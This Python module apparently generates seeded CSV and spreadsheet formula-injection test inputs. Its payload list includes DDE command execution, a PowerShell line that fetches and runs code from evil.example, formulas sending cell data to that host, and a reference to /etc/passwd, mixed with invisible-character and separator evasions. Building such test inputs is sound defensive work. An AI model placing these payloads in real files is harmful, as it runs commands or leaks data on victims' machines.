"""Texts that want to be formulas."""

from collections.abc import Iterator
from random import Random

#: What makes a formula of what follows, in one program or another.
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    "\r\n=",
    "=+",
    "-=",
    "+-@",
)
#: What shows nothing, or is taken off before a cell is looked at.
BLANKS = (
    *("", "", "", " ", "   ", "\u00a0", "\u3000", "\t", "\u200b", "\ufeff", "\u2060", "\u00ad"),
    *("\u202e", "\u200e", "\x01", "\x1f", "\x7f", "\u0085", "\u2028", " \ufeff\t"),
)
QUOTES = ("", "", "", "", "'", '"', "''", '""', "“", "`", "\"'", "’")
#: What may end a cell, and so begin another.
SEPARATORS = (
    ",",
    ";",
    "\t",
    "|",
    "\n",
    "\r",
    "\r\n",
    '",',
    '";',
    '"\t',
    '"\n',
    ";;",
    ",;\t",
    "','",
)
PAYLOADS = (
    "1+1",
    "1",
    "SUM(A1:A9)",
    "A1",
    "cmd|' /C calc'!A0",
    "cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    'DDE("cmd";"/C calc";"a")',
    "DDE(CHAR(99);CHAR(99);1)",
    'HYPERLINK("https://evil.example/?"&A1,"More")',
    'HYPERLINK("https://evil.example/?"&A1;"More")',
    'WEBSERVICE("https://evil.example/"&A1)',
    "WEBSERVICE(CHAR(104))",
    'IMPORTXML("https://evil.example/";"//a")',
    'IMPORTDATA("https://evil.example/")',
    'IMAGE("https://evil.example/x.png")',
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!\"\"",
    "'file:///etc/passwd'#$passwd.A1",
    "SUM(1+1)*cmd|' /C calc'!A0",
    "1+1;b",
    "2+5+cmd|' /C calc'!A0;x",
    "ROW()",
    "{1;2}",
    'INDIRECT("A1")',
    "REGISTER.ID(1,2)",
    "RTD(1)",
    "1e3",
    "０＋１",
)
WORDS = ("Work went on", "临港新片区", "a", "0", "3.5", "第三个泊位", "(see note)", "x, y", "x; y")


def hostile(seed: int, count: int) -> Iterator[str]:
    """So many texts, the same for the same seed."""
    chance = Random(seed)
    for _number in range(count):
        if chance.random() < 0.25:
            # As it would be typed into a cell.
            yield chance.choice(STARTS) + chance.choice(PAYLOADS)
            continue
        parts = [_cell(chance)]
        # Half of them hide behind something, or have more after it.
        if chance.random() < 0.5:
            parts.insert(0, chance.choice(WORDS) + chance.choice(SEPARATORS))
        if chance.random() < 0.3:
            parts += [chance.choice(SEPARATORS), _cell(chance)]
        if chance.random() < 0.3:
            parts += [chance.choice(SEPARATORS), chance.choice(WORDS)]
        yield "".join(parts)


def _cell(chance: Random) -> str:
    before = chance.choice(QUOTES), chance.choice(BLANKS)
    drawn = [*before] if chance.random() < 0.5 else [*reversed(before)]
    return "".join((*drawn, chance.choice(STARTS), chance.choice(PAYLOADS), chance.choice(QUOTES)))
